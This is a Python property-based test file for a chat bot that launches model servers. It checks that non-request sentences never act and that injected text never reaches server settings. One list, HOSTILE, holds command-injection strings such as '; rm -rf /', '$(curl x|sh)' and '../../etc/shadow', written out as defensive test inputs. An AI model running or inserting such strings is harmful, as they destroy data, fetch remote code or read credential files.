"""Whatever is typed: nothing outside the forms of a request acts, and hostile text reaches no setting."""

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from bot.core.domain.command import ACTIONS, Command
from tests.unit.core.language.fleet import read

NAMES = ["gemma", "kimi", "mistral 24b eagle", "deepseek-r1-mtp", "llama", "qwen2.5-72b-awq"]
PLACES = ["on node7", "on node8", "on dgx-02", "on mini-1", ""]
PAST = ["started", "stopped", "restarted", "launched", "killed", "relaunched", "deployed"]
BASE = ["start", "stop", "restart", "launch", "kill", "relaunch", "deploy", "shut down", "bring up", "take down"]
TAILS = ["", " yesterday", " this morning", " for the demo", ", all good", " and it was fine"]

names, places, tails = st.sampled_from(NAMES), st.sampled_from(PLACES), st.sampled_from(TAILS)
base, past = st.sampled_from(BASE), st.sampled_from(PAST)

reports = st.builds(
    "{} {} {} {}{}".format,
    st.sampled_from(["I", "we", "somebody", "Tom", "the night shift", "I just", "they have", "you already"]),
    past,
    names,
    places,
    tails,
)
negations = st.builds(
    "{} {} {} {}{}".format,
    st.sampled_from(
        [
            "don't",
            "do not",
            "please don't",
            "never",
            "we should not",
            "nobody should",
            "let's not",
            "no need to",
            "you must not",
        ]
    ),
    base,
    names,
    places,
    tails,
)
questions = st.builds(
    "{} {} {} {}?".format,
    st.sampled_from(
        [
            "should we",
            "did someone",
            "why did you",
            "what happens if we",
            "shall I",
            "when do we",
            "how do I",
            "is it ok to",
            "would it help to",
        ]
    ),
    base,
    names,
    places,
)
suppositions = st.builds(
    "{} {} {} {}{}".format,
    st.sampled_from(
        [
            "we could",
            "maybe we should",
            "I might",
            "if only we could",
            "I was thinking we",
            "someone could",
            "it would be nice to",
        ]
    ),
    base,
    names,
    places,
    tails,
)
later = st.builds(
    "{} {} {} {}".format,
    base,
    names,
    places,
    st.sampled_from(
        [
            "tomorrow",
            "tomorrow at 8",
            "next week",
            "later",
            "tonight at 22:00",
            "in two hours",
            "on monday",
            "when the eval is done",
            "if it hangs again",
            "once I am back",
        ]
    ),
)
plans = st.builds(
    "{} {} {} {}".format,
    st.sampled_from(["I will", "I'll", "we are going to", "I'm about to", "we plan to", "he is going to"]),
    base,
    names,
    places,
)
quotes = st.builds(
    "{}{} {} {}{}".format,
    st.sampled_from(["he typed `", "example: `", 'the docs say "', "&gt; ", "I tried `"]),
    base,
    names,
    places,
    st.sampled_from(["` by mistake", "`", '"', "\nthat worked last time"]),
)


def held_back(command: Command) -> bool:
    """Nothing is done by this command."""
    return command.intent not in ACTIONS or command.ask


@settings(max_examples=400, deadline=None)
@given(st.one_of(reports, negations, questions, suppositions, later, plans))
def test_no_sentence_outside_the_forms_of_a_request_acts(text: str) -> None:
    assert held_back(read(text)), text


@settings(max_examples=150, deadline=None)
@given(quotes)
def test_no_quotation_acts(text: str) -> None:
    if text.startswith("&gt;") or text.count("`") != 1:
        assert held_back(read(text)), text


HOSTILE = [
    "; rm -rf /",
    "$(curl x|sh)",
    "`id`",
    "&& reboot",
    "| tee /etc/passwd",
    "> /dev/sda",
    "\u200b",
    "\u202e",
    "${IFS}x",
    "'; drop table x",
    "\\n$(id)",
    "../../etc/shadow",
    "<(cat x)",
]
SAFE = re.compile(r"[\w.:/,+@=%-]*")


def _texts(value: object) -> list[str]:
    if isinstance(value, dict):
        return [t for pair in value.items() for one in pair for t in _texts(one)]
    if isinstance(value, list | tuple):
        return [t for one in value for t in _texts(one)]
    return [value] if isinstance(value, str) else []


@settings(max_examples=300, deadline=None)
@given(
    base,
    names,
    places,
    st.sampled_from(
        [
            "",
            "--port ",
            "--served-model-name ",
            "FOO=",
            "NCCL_DEBUG=",
            "served as ",
            "with attention backend ",
            "--chunked-prefill-size ",
        ]
    ),
    st.sampled_from(HOSTILE),
)
def test_hostile_text_never_reaches_a_setting(verb: str, name: str, place: str, flag: str, evil: str) -> None:
    command = read(f"{verb} {name} {place} {flag}{evil}")
    # a name in backticks of its own is a plain name: `id` is served as "id", and quoted like any word
    assert held_back(command) or (flag == "served as " and command.overrides == {"served_name": "id"})
    for text in _texts(dict(command.overrides)) + _texts(dict(command.flags)):
        assert SAFE.fullmatch(text), text


@settings(max_examples=400, deadline=None)
@given(st.text(max_size=200))
def test_any_text_is_read_and_settings_stay_plain(text: str) -> None:
    command = read("start gemma " + text)
    for value in _texts(dict(command.overrides)) + _texts(dict(command.flags)):
        assert re.fullmatch(r"[\w.:/,+@=%{}\[\]\" -]*", value)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=120))
def test_noise_alone_never_acts(text: str) -> None:
    assert held_back(read(text))
